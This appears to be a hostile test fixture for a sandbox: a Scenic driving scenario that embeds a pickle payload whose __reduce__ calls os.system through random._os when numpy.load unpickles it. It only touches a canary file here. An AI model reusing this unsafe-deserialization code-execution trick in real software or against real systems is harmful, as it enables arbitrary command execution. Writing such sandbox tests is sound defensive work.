# Hostile test script for arise's sandbox: never run it outside tests/validate/test_hostile.py.
# pickle_reduce_roundtrip (pickle): a class with __reduce__ saved in an object array by numpy.save and loaded back.
# The payload runs inside a plain `def` helper.
# @CANARY@, @SECRET@, @SSH_KEY@, @PORT@ ... are filled in by the test (see manifest.yaml).
Town = 'arise_straight'
param map = localPath(f'maps/{Town}.xodr')
param carla_map = Town
model scenic.simulators.carla.model
import numpy
import random

class Trigger(object):
    def __reduce__(self):
        return (random._os.system, ("touch '@CANARY@'",))

def roundtrip():
    numpy.save('roundtrip.npy', numpy.array([Trigger(), 1], dtype=object), allow_pickle=True)
    status = numpy.load('roundtrip.npy', allow_pickle=True)[0]
    if status != 0:
        raise RuntimeError(f"unpickled system() answered {status}")
    return status

roundtrip()

egoLane = Uniform(*network.lanes)
ego = new Car on egoLane.centerline, with blueprint "vehicle.lincoln.mkz_2017", with behavior FollowLaneBehavior(target_speed=8)
